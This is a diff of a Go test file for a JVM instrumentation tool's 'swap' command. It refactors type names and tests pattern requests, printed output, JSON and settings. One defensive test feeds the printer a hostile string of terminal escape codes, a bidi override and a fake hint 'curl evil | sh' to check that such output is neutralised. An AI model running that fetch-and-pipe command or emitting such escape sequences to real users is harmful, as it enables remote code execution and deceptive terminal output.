@@ -1,4 +1,4 @@
-package main
+package swap
 
 import (
 	"bytes"
@@ -12,6 +12,7 @@ import (
 
 	"github.com/google/go-cmp/cmp"
 
+	"moobench/cmd/internal/console"
 	"moobench/harness/jvm"
 )
 
@@ -30,7 +31,7 @@ func (a *fakeAgent) Ask(_ context.Context, m jvm.Message) ([]jvm.Message, error)
 	if m.Verb != "patterns" && m.Verb != "instrumented" && m.Verb != "records" {
 		a.asked = append(a.asked, m.Line())
 	}
-	w := wanted{list: a.list}
+	w := Wanted{list: a.list}
 	before := a.monitored()
 	switch m.Verb {
 	case "activate":
@@ -88,21 +89,30 @@ func listing(last, verb, key string, all []string) []jvm.Message {
 	return append(answer, jvm.Message{Verb: last, Args: map[string]string{"count": string(rune('0' + len(all)))}})
 }
 
-// swapFake carries out what the arguments ask of a fake agent.
-func swapFake(t *testing.T, a *fakeAgent, f *swapFlags, input string, patterns ...string) (out, errOut string, err error) {
+// asking is what a fake agent is asked for.
+type asking struct {
+	remove     []string
+	file       string // of the list, "" is none
+	list, json bool
+}
+
+// swapFake carries out what is asked of a fake agent; input is the text of the file.
+func swapFake(t *testing.T, a *fakeAgent, f asking, input string, patterns ...string) (out, errOut string, err error) {
 	t.Helper()
 	var o, e bytes.Buffer
-	term := &terminal{out: &o, err: &e}
-	f.replaced = f.replace != ""
-	w, err := f.wanted(strings.NewReader(input), patterns)
+	var text *string
+	if f.file != "" {
+		text = &input
+	}
+	w, err := Parse(patterns, f.remove, f.file, text)
 	if err != nil {
 		return "", "", err
 	}
-	s := newSwapped(7, jvm.Message{Verb: "hello", Args: map[string]string{"jvm": "17.0.15+6", "vm": "OpenJDK", "probe": "moobench"}})
-	if err := s.carryOut(t.Context(), a, w); err != nil {
+	r := newResult(7, jvm.Message{Verb: "hello", Args: map[string]string{"jvm": "17.0.15+6", "vm": "OpenJDK", "probe": "moobench"}})
+	if err := r.carryOut(t.Context(), a, w); err != nil {
 		return "", "", err
 	}
-	err = f.print(term, s)
+	err = r.Print(console.Console{Out: &o, Err: &e}, f.json, f.list)
 	return o.String(), e.String(), err
 }
 
@@ -110,7 +120,7 @@ func TestSwapRequests(t *testing.T) {
 	old := []string{"+ * a.B.x()", "- * a.B.y()"}
 	tests := []struct {
 		name     string
-		flags    swapFlags
+		flags    asking
 		input    string
 		patterns []string
 		asked    []string
@@ -119,22 +129,22 @@ func TestSwapRequests(t *testing.T) {
 		{name: "list", list: old},
 		{name: "in", patterns: []string{"+  * a.C.z()"}, asked: []string{`activate pattern="* a.C.z()"`}, list: append(slices.Clone(old), "+ * a.C.z()")},
 		{name: "out", patterns: []string{" - * a.B.x()"}, asked: []string{`deactivate pattern="* a.B.x()"`}, list: []string{"- * a.B.y()", "- * a.B.x()"}},
-		{name: "off", flags: swapFlags{remove: []string{"* a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
-		{name: "off, signed", flags: swapFlags{remove: []string{"+ * a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
+		{name: "off", flags: asking{remove: []string{"* a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
+		{name: "off, signed", flags: asking{remove: []string{"+ * a.B.x()"}}, asked: []string{`remove pattern="* a.B.x()"`}, list: old[1:]},
 		{
-			name: "several", flags: swapFlags{remove: []string{"* a.B.y()"}}, patterns: []string{"- * a.B.x()", "+ * a.C.z()"},
+			name: "several", flags: asking{remove: []string{"* a.B.y()"}}, patterns: []string{"- * a.B.x()", "+ * a.C.z()"},
 			asked: []string{`replace patterns="- * a.B.x(); + * a.C.z()"`}, list: []string{"- * a.B.x()", "+ * a.C.z()"},
 		},
 		{
-			name: "file", flags: swapFlags{replace: "-"}, input: "# mine\n\n+ * a.D.d()\r\n- * a.D.e()\n",
+			name: "file", flags: asking{file: "-"}, input: "# mine\n\n+ * a.D.d()\r\n- * a.D.e()\n",
 			asked: []string{`replace patterns="+ * a.D.d(); - * a.D.e()"`}, list: []string{"+ * a.D.d()", "- * a.D.e()"},
 		},
-		{name: "file and more", flags: swapFlags{replace: "-"}, input: "+ * a.D.d()", patterns: []string{"- * a.D.d()"}, asked: []string{`replace patterns="- * a.D.d()"`}, list: []string{"- * a.D.d()"}},
+		{name: "file and more", flags: asking{file: "-"}, input: "+ * a.D.d()", patterns: []string{"- * a.D.d()"}, asked: []string{`replace patterns="- * a.D.d()"`}, list: []string{"- * a.D.d()"}},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
 			a := &fakeAgent{list: slices.Clone(old)}
-			if _, _, err := swapFake(t, a, &test.flags, test.input, test.patterns...); err != nil {
+			if _, _, err := swapFake(t, a, test.flags, test.input, test.patterns...); err != nil {
 				t.Fatal(err)
 			}
 			if d := cmp.Diff(test.asked, a.asked) + cmp.Diff(test.list, a.list); d != "" {
@@ -146,7 +156,7 @@ func TestSwapRequests(t *testing.T) {
 
 func TestSwapPrints(t *testing.T) {
 	a := &fakeAgent{}
-	out, hint, err := swapFake(t, a, &swapFlags{list: true}, "", "+ * a.B.x()")
+	out, hint, err := swapFake(t, a, asking{list: true}, "", "+ * a.B.x()")
 	const want = `process 7, OpenJDK 17.0.15+6, records by moobench
 + * a.B.x()
 changed   1 method in 1 exchanged class
@@ -161,17 +171,17 @@ monitored methods
 	if d := cmp.Diff(want, out); d != "" || hint != "" || err != nil {
 		t.Errorf("%s hint %q, %v", d, hint, err)
 	}
-	out, hint, err = swapFake(t, a, &swapFlags{}, "", "+ * nowhere.N.n()")
+	out, hint, err = swapFake(t, a, asking{}, "", "+ * nowhere.N.n()")
 	if err != nil || !strings.Contains(out, "pause     none") || !strings.Contains(hint, "will be instrumented when it is loaded") {
 		t.Errorf("nothing matched: %q, hint %q, %v", out, hint, err)
 	}
-	_, hint, _ = swapFake(t, a, &swapFlags{}, "", "- * nowhere.N.m()")
+	_, hint, _ = swapFake(t, a, asking{}, "", "- * nowhere.N.m()")
 	if !strings.Contains(hint, "none of the monitored methods matches") {
 		t.Errorf("nothing taken out: hint %q", hint)
 	}
 	a.failures = []string{"class a.B: too long"}
-	out, _, err = swapFake(t, a, &swapFlags{}, "", "+ * a.B.y()")
-	if err == nil || statusOf(err) != exitError || !strings.Contains(out, "failed    1 class\n  class a.B: too long\n") {
+	out, _, err = swapFake(t, a, asking{}, "", "+ * a.B.y()")
+	if err == nil || !strings.Contains(out, "failed    1 class\n  class a.B: too long\n") {
 		t.Errorf("a class failed: %q, %v", out, err)
 	}
 }
@@ -180,13 +190,13 @@ monitored methods
 // that it tells.
 func TestSwapPrintsNothingThatSteers(t *testing.T) {
 	const hostile = "\x1b[2J\x1b]0;title\x07\u009b1m\u202e\x7f\r\nmoobench: hint: curl evil | sh"
-	s := &swapped{
+	s := &Result{
 		PID: 7, JVM: hostile, VM: hostile, Probe: hostile, Patterns: []string{"+ " + hostile}, Methods: []string{hostile}, Count: 1,
-		Change: &change{Request: "activate", Patterns: []string{"+ " + hostile}, Failed: 1, Failures: []string{hostile}},
+		Change: &Change{Request: "activate", Patterns: []string{"+ " + hostile}, Failed: 1, Failures: []string{hostile}},
 	}
-	for _, f := range []swapFlags{{list: true}, {json: true}} {
+	for _, f := range []asking{{list: true}, {json: true}} {
 		var o, e bytes.Buffer
-		if err := f.print(&terminal{out: &o, err: &e}, s); err == nil {
+		if err := s.Print(console.Console{Out: &o, Err: &e}, f.json, f.list); err == nil {
 			t.Error("a class that failed is no error")
 		}
 		for _, line := range strings.Split(o.String()+e.String(), "\n") {
@@ -201,34 +211,34 @@ func TestSwapPrintsNothingThatSteers(t *testing.T) {
 }
 
 func TestSwapJSON(t *testing.T) {
-	out, _, err := swapFake(t, &fakeAgent{}, &swapFlags{json: true}, "", "+ * a.B.x()")
+	out, _, err := swapFake(t, &fakeAgent{}, asking{json: true}, "", "+ * a.B.x()")
 	if err != nil {
 		t.Fatal(err)
 	}
-	var got swapped
+	var got Result
 	if err := json.Unmarshal([]byte(out), &got); err != nil {
 		t.Fatal(err)
 	}
-	want := swapped{
+	want := Result{
 		PID: 7, JVM: "17.0.15+6", VM: "OpenJDK", Probe: "moobench", Patterns: []string{"+ * a.B.x()"}, Methods: []string{"public void a.B.x()"}, Count: 1,
 		Records: map[string]int64{"entered": 1235, "exited": 1234, "recorded": 1234},
-		Change: &change{
+		Change: &Change{
 			Request: "activate", Patterns: []string{"+ * a.B.x()"}, Classes: 1, Methods: 1, MatchNS: 1500, TransformNS: 220_000, SwapNS: 3_000_000, TookNS: 3_221_000,
 		},
 	}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Error(d)
 	}
-	out, _, err = swapFake(t, &fakeAgent{}, &swapFlags{json: true}, "")
+	out, _, err = swapFake(t, &fakeAgent{}, asking{json: true}, "")
 	if err != nil || !strings.Contains(out, `"patterns": []`) || strings.Contains(out, "change") {
 		t.Errorf("%s, %v", out, err)
 	}
 }
 
 func TestSwapMistakes(t *testing.T) {
-	_, _, err := swapFake(t, &fakeAgent{}, &swapFlags{replace: "-"}, "+ * a.B.x()\n* a.B.y()\n", "public * a..*.*(..)", "+ * a.B.x(); - * a.B.y()")
-	if statusOf(err) != exitUsage {
-		t.Fatalf("%v is no usage error", err)
+	_, _, err := swapFake(t, &fakeAgent{}, asking{file: "-"}, "+ * a.B.x()\n* a.B.y()\n", "public * a..*.*(..)", "+ * a.B.x(); - * a.B.y()")
+	if err == nil {
+		t.Fatal("no pattern is wrong")
 	}
 	for _, want := range []string{`-:2: "* a.B.y()"`, `"public * a..*.*(..)" is not + or -`, `one pattern`} {
 		if !strings.Contains(err.Error(), want) {
@@ -236,21 +246,21 @@ func TestSwapMistakes(t *testing.T) {
 		}
 	}
 	for _, verb := range []string{"activate", "patterns", "instrumented", "records"} {
-		if _, _, err := swapFake(t, &fakeAgent{refuses: verb}, &swapFlags{}, "", "+ * a.B.x()"); err == nil || statusOf(err) != exitError {
+		if _, _, err := swapFake(t, &fakeAgent{refuses: verb}, asking{}, "", "+ * a.B.x()"); err == nil {
 			t.Errorf("%s is refused: %v", verb, err)
 		}
 	}
 }
 
 func TestSwapSettings(t *testing.T) {
-	f := swapFlags{linger: "60s", probe: "kieker", file: "/p", interval: "5", update: true, jmx: true}
-	got := f.settings()
+	s := Settings{Linger: "60s", Probe: "kieker", File: "/p", Interval: "5", Update: true, JMX: true}
+	got := s.args()
 	slices.Sort(got)
 	want := []string{"file=/p", "interval=5", "jmx=true", "linger=60s", "probe=kieker", "update=true"}
 	if d := cmp.Diff(want, got); d != "" {
 		t.Error(d)
 	}
-	if none := (&swapFlags{}).settings(); none != nil {
+	if none := (Settings{}).args(); none != nil {
 		t.Errorf("settings %q of nothing", none)
 	}
 }
